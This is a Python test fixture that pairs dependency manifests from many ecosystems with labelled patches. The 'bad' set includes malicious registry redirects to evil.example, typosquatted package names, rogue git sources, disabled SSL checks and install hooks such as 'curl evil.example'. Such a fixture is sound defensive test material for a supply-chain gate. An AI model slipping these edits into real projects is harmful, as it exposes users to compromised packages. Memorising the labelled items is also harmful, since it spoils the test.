"""Manifests of two dozen kinds with one dependency, source or hook changed, by a candidate that may change them."""

from __future__ import annotations

from collections.abc import Sequence

from tests.gates.labelled import Label, Labelled, changed

MANIFESTS = {
    "requirements.txt": """\
flask==3.0.3
requests==2.32.3
numpy==1.26.4
""",
    "pyproject.toml": """\
[project]
name = "x"
version = "1.0"
dependencies = [
  "flask>=3.0",
  "requests>=2.31",
]

[project.optional-dependencies]
dev = ["pytest>=8"]

[build-system]
requires = ["setuptools>=69"]
build-backend = "setuptools.build_meta"
""",
    "package.json": """\
{
  "name": "x",
  "version": "1.0.0",
  "scripts": {
    "build": "tsc",
    "test": "jest"
  },
  "dependencies": {
    "express": "^4.19.2",
    "lodash": "^4.17.21"
  },
  "devDependencies": {
    "jest": "^29.7.0"
  }
}
""",
    "go.mod": """\
module example.com/x

go 1.22

require (
	github.com/spf13/cobra v1.8.1
	golang.org/x/net v0.27.0
)
""",
    "Cargo.toml": """\
[package]
name = "x"
version = "0.1.0"
edition = "2021"

[dependencies]
serde = "1.0.200"
tokio = { version = "1.38", features = ["full"] }
""",
    "Gemfile": """\
source 'https://rubygems.org'

gem 'rails', '~> 7.1'
gem 'puma', '6.4.2'
""",
    "pom.xml": """\
<project>
  <dependencies>
    <dependency>
      <groupId>org.slf4j</groupId>
      <artifactId>slf4j-api</artifactId>
      <version>2.0.13</version>
    </dependency>
  </dependencies>
</project>
""",
    "build.gradle": """\
plugins {
  id 'java'
}
repositories {
  mavenCentral()
}
dependencies {
  implementation 'org.slf4j:slf4j-api:2.0.13'
}
""",
    "composer.json": """\
{
  "require": {
    "monolog/monolog": "^3.6"
  }
}
""",
    "setup.py": """\
from setuptools import setup
setup(name='x', install_requires=['flask>=3'])
""",
    "Pipfile": """\
[[source]]
url = "https://pypi.org/simple"
verify_ssl = true
name = "pypi"

[packages]
flask = "==3.0.3"
""",
    "Dockerfile": """\
FROM python:3.12.4-slim
RUN apt-get update && apt-get install -y --no-install-recommends git
RUN pip install --no-cache-dir flask==3.0.3
""",
    "environment.yml": """\
name: x
channels:
  - conda-forge
dependencies:
  - python=3.12
  - numpy=1.26
""",
    "App.csproj": """\
<Project Sdk="Microsoft.NET.Sdk">
  <ItemGroup>
    <PackageReference Include="Newtonsoft.Json" Version="13.0.3" />
  </ItemGroup>
</Project>
""",
    ".npmrc": """\
registry=https://registry.npmjs.org/
""",
    "mix.exs": """\
defmodule X.MixProject do
  defp deps do
    [
      {:phoenix, "~> 1.7"}
    ]
  end
end
""",
    "pubspec.yaml": """\
name: x
dependencies:
  http: ^1.2.0
""",
    "main.tf": """\
terraform {
  required_providers {
    aws = {
      source  = "hashicorp/aws"
      version = "5.57.0"
    }
  }
}

module "vpc" {
  source  = "terraform-aws-modules/vpc/aws"
  version = "5.8.1"
}
""",
    "Chart.yaml": """\
apiVersion: v2
name: x
version: 1.0.0
dependencies:
  - name: postgresql
    version: 15.5.0
    repository: https://charts.bitnami.com/bitnami
""",
}
WORSE = (
    ("requirements.txt", "flask==3.0.3\n", "flask==3.0.3\nevil-pkg==1.0\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask==2.0.0\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask>=3\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask @ git+https://github.com/evil/flask\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask @ https://evil.example/flask.whl\n"),
    ("requirements.txt", "flask==3.0.3\n", "--index-url https://evil.example/simple\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "--extra-index-url https://evil.example/simple\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "--trusted-host evil.example\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "-e git+https://github.com/x/y#egg=flask\n"),
    ("requirements.txt", "flask==3.0.3\n", "fl4sk==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "flaks==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "-f https://evil.example\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "https://evil.example/a.tar.gz\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "-r https://evil.example/r.txt\nflask==3.0.3\n"),
    ("requirements.txt", "flask==3.0.3\n", "--pre\nflask==3.0.3\n"),
    ("requirements.txt", "requests==2.32.3\n", "reqeusts==2.32.3\n"),
    ("requirements.txt", "requests==2.32.3\n", "requests==2.32.3\nrequestss==2.0\n"),
    ("requirements.txt", "requests==2.32.3\n", "requests==2.19.0\n"),
    ("requirements.txt", "requests==2.32.3\n", "request==2.32.3\n"),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests>=2.31",\n  "evil-pkg>=1",\n'),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests",\n'),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests @ git+https://github.com/x/requests",\n'),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "reqeusts>=2.31",\n'),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests>=1.0",\n'),
    ("pyproject.toml", 'requires = ["setuptools>=69"]\n', 'requires = ["setuptools>=69", "evil-build"]\n'),
    (
        "pyproject.toml",
        'build-backend = "setuptools.build_meta"\n',
        'build-backend = "backend"\nbackend-path = ["."]\n',
    ),
    (
        "pyproject.toml",
        'dev = ["pytest>=8"]\n\n',
        'dev = ["pytest>=8"]\n\n[[tool.uv.index]]\nurl = "https://evil.example/simple"\n\n',
    ),
    (
        "pyproject.toml",
        'dev = ["pytest>=8"]\n\n',
        'dev = ["pytest>=8"]\n\n[[tool.poetry.source]]\nname = "x"\nurl = "https://evil.example/simple"\n\n',
    ),
    (
        "pyproject.toml",
        'dev = ["pytest>=8"]\n\n',
        'dev = ["pytest>=8"]\n\n[tool.uv.sources]\nrequests = { git = "https://github.com/x/requests" }\n\n',
    ),
    (
        "pyproject.toml",
        'dev = ["pytest>=8"]\n\n',
        'dev = ["pytest>=8"]\n\n[tool.uv]\nindex-url = "https://evil.example"\n\n',
    ),
    ("package.json", '    "build": "tsc",\n', '    "build": "tsc",\n    "postinstall": "node x.js",\n'),
    ("package.json", '    "build": "tsc",\n', '    "build": "tsc",\n    "preinstall": "curl evil.example",\n'),
    ("package.json", '    "build": "tsc",\n', '    "build": "tsc",\n    "prepare": "node setup.js",\n'),
    ("package.json", '    "build": "tsc",\n', '    "build": "tsc",\n    "install": "node-gyp rebuild",\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "^4.17.21",\n    "evil": "1.0.0"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "*"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "latest"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "github:evil/lodash"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "git+https://github.com/x/lodash.git"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "https://evil.example/lodash.tgz"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "file:../lodash"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "^3.0.0"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "npm:evil@1"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodahs": "^4.17.21"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "loadsh": "^4.17.21"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": ">=0"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "x"\n'),
    (
        "package.json",
        '    "lodash": "^4.17.21"\n  },\n',
        '    "lodash": "^4.17.21"\n  },\n  "overrides": {\n    "lodash": "npm:evil@1"\n  },\n',
    ),
    (
        "package.json",
        '    "lodash": "^4.17.21"\n  },\n',
        '    "lodash": "^4.17.21"\n  },\n  "resolutions": {\n    "lodash": "https://evil.example/x.tgz"\n  },\n',
    ),
    (
        "package.json",
        '    "lodash": "^4.17.21"\n  },\n',
        '    "lodash": "^4.17.21"\n  },\n  "packageManager": "pnpm@9.0.0",\n',
    ),
    (".npmrc", "registry=https://registry.npmjs.org/\n", "registry=https://evil.example/\n"),
    (
        ".npmrc",
        "registry=https://registry.npmjs.org/\n",
        "registry=https://registry.npmjs.org/\n@x:registry=https://evil.example/\n",
    ),
    (".npmrc", "registry=https://registry.npmjs.org/\n", "registry=https://registry.npmjs.org/\nstrict-ssl=false\n"),
    (".npmrc", "registry=https://registry.npmjs.org/\n", "registry=http://registry.npmjs.org/\n"),
    (
        ".npmrc",
        "registry=https://registry.npmjs.org/\n",
        "registry=https://registry.npmjs.org/\nignore-scripts=false\n",
    ),
    ("go.mod", "\tgolang.org/x/net v0.27.0\n", "\tgolang.org/x/net v0.27.0\n\tgithub.com/evil/pkg v0.1.0\n"),
    ("go.mod", ")\n", ")\n\nreplace github.com/spf13/cobra => github.com/evil/cobra v1.8.1\n"),
    ("go.mod", ")\n", ")\n\nreplace github.com/spf13/cobra => ../cobra\n"),
    ("go.mod", "\tgithub.com/spf13/cobra v1.8.1\n", "\tgithub.com/spf13/cobra v1.0.0\n"),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = "1.0.200"\nevil = "0.1"\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = "*"\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = { git = "https://github.com/evil/serde" }\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = { path = "../serde" }\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = "0.9"\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serd = "1.0.200"\n'),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = { version = "1", registry = "evil" }\n'),
    (
        "Cargo.toml",
        'edition = "2021"\n\n',
        'edition = "2021"\n\n[patch.crates-io]\nserde = { git = "https://github.com/evil/serde" }\n\n',
    ),
    ("Cargo.toml", 'edition = "2021"\n\n', 'edition = "2021"\n\n[build-dependencies]\nevil = "1"\n\n'),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', '6.4.2'\ngem 'evil'\n"),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma'\n"),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', git: 'https://github.com/evil/puma'\n"),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', '5.0.0'\n"),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', github: 'evil/puma'\n"),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', path: '../x'\n"),
    ("Gemfile", "source 'https://rubygems.org'\n", "source 'https://evil.example'\n"),
    ("Gemfile", "source 'https://rubygems.org'\n", "source 'http://rubygems.org'\n"),
    (
        "pom.xml",
        "    </dependency>\n",
        "    </dependency>\n    <dependency>\n      <groupId>com.evil</groupId>\n      <artifactId>x</artifactId>\n      <version>1</version>\n    </dependency>\n",
    ),
    ("pom.xml", "      <version>2.0.13</version>\n", "      <version>1.7.0</version>\n"),
    ("pom.xml", "      <version>2.0.13</version>\n", "      <version>LATEST</version>\n"),
    ("pom.xml", "      <version>2.0.13</version>\n", "      <version>[1.0,)</version>\n"),
    (
        "pom.xml",
        "<project>\n",
        "<project>\n  <repositories>\n    <repository>\n      <id>e</id>\n      <url>https://evil.example/m2</url>\n    </repository>\n  </repositories>\n",
    ),
    ("build.gradle", "  mavenCentral()\n", "  mavenCentral()\n  maven { url 'https://evil.example/m2' }\n"),
    ("build.gradle", "  mavenCentral()\n", "  mavenCentral()\n  mavenLocal()\n"),
    (
        "build.gradle",
        "  implementation 'org.slf4j:slf4j-api:2.0.13'\n",
        "  implementation 'org.slf4j:slf4j-api:2.0.13'\n  implementation 'com.evil:x:1.0'\n",
    ),
    ("build.gradle", "  implementation 'org.slf4j:slf4j-api:2.0.13'\n", "  implementation 'org.slf4j:slf4j-api:+'\n"),
    (
        "build.gradle",
        "  implementation 'org.slf4j:slf4j-api:2.0.13'\n",
        "  implementation 'org.slf4j:slf4j-api:1.7.0'\n",
    ),
    (
        "build.gradle",
        "  implementation 'org.slf4j:slf4j-api:2.0.13'\n",
        "  implementation 'org.slf4j:slf4j-api:latest.release'\n",
    ),
    ("composer.json", '    "monolog/monolog": "^3.6"\n', '    "monolog/monolog": "^3.6",\n    "evil/pkg": "^1"\n'),
    ("composer.json", '    "monolog/monolog": "^3.6"\n', '    "monolog/monolog": "*"\n'),
    ("composer.json", '    "monolog/monolog": "^3.6"\n', '    "monolog/monolog": "dev-main"\n'),
    ("composer.json", '    "monolog/monolog": "^3.6"\n', '    "monolog/monolog": "^2.0"\n'),
    ("composer.json", "{\n", '{\n  "repositories": [{"type": "vcs", "url": "https://evil.example/x"}],\n'),
    ("composer.json", "{\n", '{\n  "scripts": {"post-install-cmd": "php evil.php"},\n'),
    (
        "setup.py",
        "setup(name='x', install_requires=['flask>=3'])\n",
        "setup(name='x', install_requires=['flask>=3', 'evil'])\n",
    ),
    (
        "setup.py",
        "setup(name='x', install_requires=['flask>=3'])\n",
        "setup(name='x', install_requires=['flask>=3'], cmdclass={'install': Evil})\n",
    ),
    (
        "setup.py",
        "setup(name='x', install_requires=['flask>=3'])\n",
        "setup(name='x', install_requires=['flask>=3'], dependency_links=['https://evil.example'])\n",
    ),
    ("Pipfile", 'flask = "==3.0.3"\n', 'flask = "*"\n'),
    ("Pipfile", 'flask = "==3.0.3"\n', 'flask = "==3.0.3"\nevil = "*"\n'),
    ("Pipfile", 'flask = "==3.0.3"\n', 'flask = {git = "https://github.com/x/flask"}\n'),
    ("Pipfile", 'flask = "==3.0.3"\n', 'flask = "==2.0.0"\n'),
    ("Pipfile", 'url = "https://pypi.org/simple"\n', 'url = "https://evil.example/simple"\n'),
    ("Pipfile", "verify_ssl = true\n", "verify_ssl = false\n"),
    (
        "Dockerfile",
        "RUN pip install --no-cache-dir flask==3.0.3\n",
        "RUN pip install --no-cache-dir flask==3.0.3 evil\n",
    ),
    ("Dockerfile", "RUN pip install --no-cache-dir flask==3.0.3\n", "RUN pip install --no-cache-dir flask\n"),
    (
        "Dockerfile",
        "RUN pip install --no-cache-dir flask==3.0.3\n",
        "RUN pip install --no-cache-dir -i https://evil.example flask==3.0.3\n",
    ),
    ("Dockerfile", "RUN pip install --no-cache-dir flask==3.0.3\n", "RUN pip install --no-cache-dir flask==2.0.0\n"),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM evil/python:3.12\n"),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM python:latest\n"),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM python:3.8-slim\n"),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM python\n"),
    ("environment.yml", "  - conda-forge\n", "  - conda-forge\n  - evilchannel\n"),
    ("environment.yml", "  - numpy=1.26\n", "  - numpy=1.26\n  - evil\n"),
    ("environment.yml", "  - numpy=1.26\n", "  - numpy\n"),
    ("environment.yml", "  - numpy=1.26\n", "  - numpy=1.10\n"),
    (
        "App.csproj",
        '    <PackageReference Include="Newtonsoft.Json" Version="13.0.3" />\n',
        '    <PackageReference Include="Newtonsoft.Json" Version="12.0.1" />\n',
    ),
    (
        "App.csproj",
        '    <PackageReference Include="Newtonsoft.Json" Version="13.0.3" />\n',
        '    <PackageReference Include="Newtonsoft.Json" Version="*" />\n',
    ),
    ("App.csproj", "  <ItemGroup>\n", '  <ItemGroup>\n    <PackageReference Include="Evil" Version="1.0.0" />\n'),
    ("mix.exs", '      {:phoenix, "~> 1.7"}\n', '      {:phoenix, "~> 1.7"},\n      {:evil, "~> 1.0"}\n'),
    ("mix.exs", '      {:phoenix, "~> 1.7"}\n', '      {:phoenix, git: "https://github.com/evil/phoenix"}\n'),
    ("mix.exs", '      {:phoenix, "~> 1.7"}\n', '      {:phoenix, ">= 0.0.0"}\n'),
    ("pubspec.yaml", "  http: ^1.2.0\n", "  http: ^1.2.0\n  evil: ^1.0.0\n"),
    ("pubspec.yaml", "  http: ^1.2.0\n", "  http: any\n"),
    ("pubspec.yaml", "  http: ^1.2.0\n", "  http:\n    git: https://github.com/evil/http\n"),
    ("main.tf", '      version = "5.57.0"\n', '      version = "4.0.0"\n'),
    ("main.tf", '      version = "5.57.0"\n', '      version = ">= 0"\n'),
    ("main.tf", '      source  = "hashicorp/aws"\n', '      source  = "evil/aws"\n'),
    (
        "main.tf",
        '  source  = "terraform-aws-modules/vpc/aws"\n',
        '  source  = "git::https://github.com/evil/vpc.git"\n',
    ),
    ("main.tf", '  source  = "terraform-aws-modules/vpc/aws"\n', '  source  = "evil/vpc/aws"\n'),
    (
        "Chart.yaml",
        "    repository: https://charts.bitnami.com/bitnami\n",
        "    repository: https://evil.example/charts\n",
    ),
    ("Chart.yaml", "    version: 15.5.0\n", '    version: "*"\n'),
    ("Chart.yaml", "    version: 15.5.0\n", "    version: 10.0.0\n"),
)
WELL = (
    ("requirements.txt", "flask==3.0.3\n", "flask==3.0.4\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask==3.1.0\n"),
    ("requirements.txt", "flask==3.0.3\n", "flask==3.0.3  # web\n"),
    ("requirements.txt", "numpy==1.26.4\n", "numpy==2.0.1\n"),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests>=2.32",\n'),
    ("pyproject.toml", '  "requests>=2.31",\n', '  "requests>=2.32,<3",\n'),
    ("pyproject.toml", 'version = "1.0"\n', 'version = "1.1"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "^4.17.22"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "4.17.21"\n'),
    ("package.json", '    "lodash": "^4.17.21"\n', '    "lodash": "~4.17.21"\n'),
    ("package.json", '  "version": "1.0.0",\n', '  "version": "1.0.1",\n'),
    ("package.json", '    "test": "jest"\n', '    "test": "jest --ci"\n'),
    ("go.mod", "\tgithub.com/spf13/cobra v1.8.1\n", "\tgithub.com/spf13/cobra v1.9.0\n"),
    ("go.mod", "go 1.22\n", "go 1.23\n"),
    ("Cargo.toml", 'serde = "1.0.200"\n', 'serde = "1.0.210"\n'),
    (
        "Cargo.toml",
        'tokio = { version = "1.38", features = ["full"] }\n',
        'tokio = { version = "1.40", features = ["full"] }\n',
    ),
    ("Gemfile", "gem 'puma', '6.4.2'\n", "gem 'puma', '6.4.3'\n"),
    ("Gemfile", "gem 'rails', '~> 7.1'\n", "gem 'rails', '~> 7.2'\n"),
    ("pom.xml", "      <version>2.0.13</version>\n", "      <version>2.0.16</version>\n"),
    (
        "build.gradle",
        "  implementation 'org.slf4j:slf4j-api:2.0.13'\n",
        "  implementation 'org.slf4j:slf4j-api:2.0.16'\n",
    ),
    ("composer.json", '    "monolog/monolog": "^3.6"\n', '    "monolog/monolog": "^3.7"\n'),
    ("Pipfile", 'flask = "==3.0.3"\n', 'flask = "==3.0.4"\n'),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM python:3.12.5-slim\n"),
    ("Dockerfile", "FROM python:3.12.4-slim\n", "FROM python:3.13.0-slim\n"),
    ("Dockerfile", "RUN pip install --no-cache-dir flask==3.0.3\n", "RUN pip install --no-cache-dir flask==3.0.4\n"),
    ("environment.yml", "  - numpy=1.26\n", "  - numpy=2.0\n"),
    (
        "App.csproj",
        '    <PackageReference Include="Newtonsoft.Json" Version="13.0.3" />\n',
        '    <PackageReference Include="Newtonsoft.Json" Version="13.0.4" />\n',
    ),
    ("mix.exs", '      {:phoenix, "~> 1.7"}\n', '      {:phoenix, "~> 1.8"}\n'),
    ("pubspec.yaml", "  http: ^1.2.0\n", "  http: ^1.3.0\n"),
    ("main.tf", '      version = "5.57.0"\n', '      version = "5.60.0"\n'),
    ("Chart.yaml", "    version: 15.5.0\n", "    version: 16.0.0\n"),
)


def _edits(label: Label, edits: Sequence[tuple[str, str, str]]) -> list[Labelled]:
    return [
        patch
        for path, old, new in edits
        for patch in changed(
            "supply",
            label,
            path,
            MANIFESTS[path],
            [MANIFESTS[path].replace(old, new, 1)],
            "image" if path == "Dockerfile" else "dependency",
        )
    ]


PATCHES: list[Labelled] = [*_edits("bad", WORSE), *_edits("fine", WELL)]
